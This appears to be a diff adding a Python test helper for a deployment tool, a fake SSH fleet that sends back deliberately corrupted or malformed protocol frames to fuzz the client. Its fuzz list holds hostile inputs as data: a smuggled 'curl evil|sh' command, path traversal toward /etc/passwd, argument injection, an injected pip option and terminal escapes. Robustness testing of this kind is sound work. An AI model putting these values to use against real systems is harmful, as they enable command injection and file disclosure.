@@ -1,0 +1,232 @@
+"""A host that lies: for any verb, its honest answer spoilt somewhere, or frames that are no answer. One seed, one answer.
+
+`LyingFleet` is the real fan-out with the real channel; only what SSH would carry is made up here.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import random
+import struct
+import threading
+from collections.abc import Callable, Iterator
+from types import SimpleNamespace
+from typing import Any
+
+from honest import Said, honest
+
+from tfdeploy.agent import wire
+from tfdeploy.errors import HostUnreachable
+from tfdeploy.model.inventory import Host
+from tfdeploy.transport.channel import FramedChannel
+from tfdeploy.transport.fleet import SshFleet
+from tfdeploy.transport.frames import Frames
+
+Seed = int | Said | None
+INFINITE, NAN = float("inf"), float("nan")
+
+
+def nested(depth: int) -> Any:
+    value: Any = 1
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+FOREIGN: list[Any] = [None, True, 0, -1, 0.5, 1 << 63, 1 << 70, -(1 << 70), NAN, INFINITE, -INFINITE, 1e308, 10**400]
+FOREIGN += [
+    "",
+    "x",
+    "\0",
+    "\n",
+    "a\nb",
+    "../../../x",
+    "/etc/passwd",
+    ".",
+    "..",
+    "n2 ",
+    "-e sh",
+    "\x1b]0;x\x07",
+    "\udc80",
+    "é" * 9,
+]
+FOREIGN += [
+    "10.0.0.1;curl evil|sh #",
+    "6.6.6\n--find-links /x",
+    "x" * 100_000,
+    "worker:0",
+    "worker:99",
+    "ended",
+    "running",
+    "NaN",
+]
+FOREIGN += [
+    [],
+    {},
+    [[]],
+    [None],
+    {"": {}},
+    {"x": NAN},
+    nested(90),
+    nested(900),
+    list(range(5000)),
+    ["a"] * 5000,
+    {"a": nested(50)},
+]
+FOREIGN += [[1, 2, 3, 4], {str(n): n for n in range(2000)}, "0x10", "1e5", [["a", 1, 1, None]], [{"task": "worker:0"}]]
+ODD_FRAMES = [
+    b"{{",
+    b"[]",
+    b"nonsense",
+    b'{"id": NaN}',
+    b'{"id": 1e999, "value": 1e999}',
+    b"[" * 100_000,
+    b'{"id": [1], "value": {}}',
+    b'{"id": true, "value": {}}',
+    b'{"id": "1", "item": {}}',
+    b'{"value": {}}',
+    b'{"id": 0, "value": {"clock": "late"}}',
+    b'{"id": 0, "value": {"clock": 1e300}}',
+    b'{"hello": {}}',
+    b'{"cancel": 1}',
+    b'{"id": ' + b"9" * 4000 + b"}",
+    b"9" * 10_000,
+    b'{"id": 1, "value": "\xff"}',
+]
+
+
+def frame(header: Any, blob: bytes = b"") -> bytes:
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("!II", len(text), len(blob)) + text + blob
+
+
+def spots(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """Where something may be put in the place of something: () is all of it."""
+    yield at
+    if isinstance(value, (dict, list)):
+        for key in value if isinstance(value, dict) else range(len(value)):
+            yield from spots(value[key], (*at, key))
+
+
+def spoil(chance: random.Random, value: Any) -> Any:
+    """A copy with one thing wrong."""
+    value = copy.deepcopy(value)
+    where = chance.choice(list(spots(value)))
+    if not where:
+        return chance.choice(FOREIGN)
+    *above, last = where
+    parent = value
+    for key in above:
+        parent = parent[key]
+    how = chance.randrange(6)
+    if how == 0 and isinstance(parent, dict):
+        del parent[last]
+    elif how == 1 and isinstance(parent, dict):
+        parent[chance.choice(["x", "", "\udc80", "../x", "worker:0", "\x1b[2J"])] = parent.pop(last)
+    elif how == 1:
+        parent += parent * 3
+    else:
+        parent[last] = chance.choice(FOREIGN)
+    return value
+
+
+def lie(seed: int, number: int, said: Said) -> list[bytes]:
+    """The frames of one dishonest answer to request `number`. What comes after them is the end of the connection."""
+    chance = random.Random(seed)
+    items = [frame({"id": number, "item": item}, blob) for item, blob in said.items]
+    end = frame({"id": number, "value": said.value})
+    error = {"code": "ended", "what": "it has ended", "where": None, "next": None, "details": {"lines": ["x"]}}
+
+    def spoilt_value() -> list[bytes]:
+        return [*items, frame({"id": number, "value": spoil(chance, said.value)})]
+
+    def spoilt_item() -> list[bytes]:
+        if not said.items:
+            return spoilt_value()
+        item, blob = chance.choice(said.items)
+        return [*items, frame({"id": number, "item": spoil(chance, item)}, blob), end]
+
+    ways: list[Callable[[], list[bytes]]] = [spoilt_value, spoilt_value, spoilt_item, spoilt_item]
+    ways += [
+        lambda: [frame({"id": number, "error": spoil(chance, error)})],
+        lambda: [*items, frame(chance.choice(ODD_FRAMES)), end],
+        lambda: [end, *items, end, frame({"id": number, "error": error})],  # a second answer, and items after the end
+        lambda: [frame({"id": number - 1, "value": chance.choice(FOREIGN)}), *items, end],  # a late one
+        lambda: [frame({"id": number, "item": chance.choice(FOREIGN)}), *items],  # an item, and then no end
+        lambda: [*items * 20, end],
+        lambda: [*items, end[: chance.randrange(len(end))]],
+        lambda: [struct.pack("!II", chance.choice([1 << 31, 0, 7]), chance.choice([0, 1 << 31])) + b"{}"],
+    ]
+    return chance.choice(ways)()
+
+
+class LyingChannel(FramedChannel):
+    """The real channel to one host. `seeds` says which requests are answered dishonestly, and how."""
+
+    def __init__(self, host: str, seeds: Callable[[str], Seed]) -> None:
+        wire_there: Any = SimpleNamespace(close=lambda: None)
+        super().__init__(wire_there, host)
+        self._pump: Any = SimpleNamespace(wake=lambda: None)
+        self._frames = Frames()
+        self._seeds = seeds
+        self._order = threading.Lock()
+        self.hello = honest_hello(host)
+
+    def _send(self, header: dict[str, Any], blob: bytes = b"") -> None:
+        if "verb" not in header:
+            return
+        said, seed = honest(header["verb"], self._host, header["args"]), self._seeds(header["verb"])
+        if isinstance(seed, Said):
+            said, seed = seed, None
+        if seed is None:
+            sent = [frame({"id": header["id"], "item": item}, blob) for item, blob in said.items]
+            sent.append(frame({"id": header["id"], "value": said.value}))
+        else:
+            sent = lie(seed, header["id"], said)
+        threading.Thread(target=self._hear, args=(b"".join(sent), seed is not None), daemon=True).start()
+
+    def hurry(self) -> None:
+        return None
+
+    def _hear(self, said: bytes, last: bool) -> None:
+        """As the reader does; after a lie the connection ends, so that none waits for what does not come."""
+        with self._order:
+            try:
+                self._frames.feed(said)
+                for each in self._frames.take():
+                    self._hand_out(each)
+            except wire.WireError as error:
+                self._lose(HostUnreachable(f"what the host sends is not our agent's: {error}", where=self._host))
+        if last:
+            self._lose(HostUnreachable("the connection ended", where=self._host))
+
+
+def honest_hello(host: str) -> Any:
+    from tfdeploy.model.answers.hosts import Hello
+    from tfdeploy.model.answers.reading import read
+
+    return read(honest("hello", host, {}).value, Hello)
+
+
+class LyingFleet(SshFleet):
+    """`seeds(host, verb)`: a lie's number, or its words; None for an honest answer. A channel that ended is made anew."""
+
+    def __init__(self, seeds: Callable[[str, str], Seed]) -> None:
+        super().__init__()
+        self._seeds = seeds
+        self._channels: dict[str, LyingChannel] = {}
+
+    def session(self, host: Host, *_: Any) -> Any:
+        tunnel = SimpleNamespace(port=1, close=lambda: None)
+        about: dict[str, Any] = {"host": host, "target": host.name, "alive": True, "tunnel": lambda *_: tunnel}
+        return SimpleNamespace(**about, agent=lambda: self._agent(host.name), close=lambda: None)
+
+    def connected(self, hosts: tuple[Host, ...]) -> tuple[Host, ...]:
+        return hosts
+
+    def _agent(self, name: str) -> LyingChannel:
+        channel = self._channels.get(name)
+        if channel is None or channel.lost:
+            channel = self._channels[name] = LyingChannel(name, lambda verb: self._seeds(name, verb))
+        return channel
